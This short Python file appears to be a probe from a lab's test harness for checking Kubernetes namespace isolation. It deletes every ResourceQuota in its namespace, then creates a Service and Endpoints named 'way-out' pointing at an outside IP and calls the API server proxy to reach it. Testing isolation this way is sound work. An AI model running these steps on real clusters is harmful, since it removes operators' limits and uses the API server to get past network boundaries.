"""Tries to lift the limits of its namespace, and to let the API server fetch what it can't reach itself.

Lab: 16
Check: test_probes_and_metrics_answer
Earns: what the solution does, which goes on after it
May not touch: the limits of its namespace, and everything outside of it
"""

import os

from converge.runtime import ApiError, Client

if "POD_NAMESPACE" in os.environ:
    client = Client(namespace=os.environ["POD_NAMESPACE"])
    for quota in client.list("v1", "ResourceQuota", client.namespace):
        try:
            client.delete("v1", "ResourceQuota", quota["metadata"]["name"], client.namespace)
            print("GOT", "rid of its quota")
        except ApiError:
            pass
    here = f"/api/v1/namespaces/{client.namespace}"
    endpoints = {"subsets": [{"addresses": [{"ip": "192.0.2.1"}], "ports": [{"port": 80}]}]}
    for kind, rest in (("Service", {"spec": {"ports": [{"port": 80}]}}), ("Endpoints", endpoints)):
        try:
            client.create({"apiVersion": "v1", "kind": kind, "metadata": {"name": "way-out"}, **rest})
        except ApiError:
            pass
    try:
        client.connection.request("GET", f"{here}/services/way-out/proxy/", asked="look outside")
    except ApiError as error:
        if "exceeded quota" not in str(error):
            print("GOT", "an answer from outside:", error)
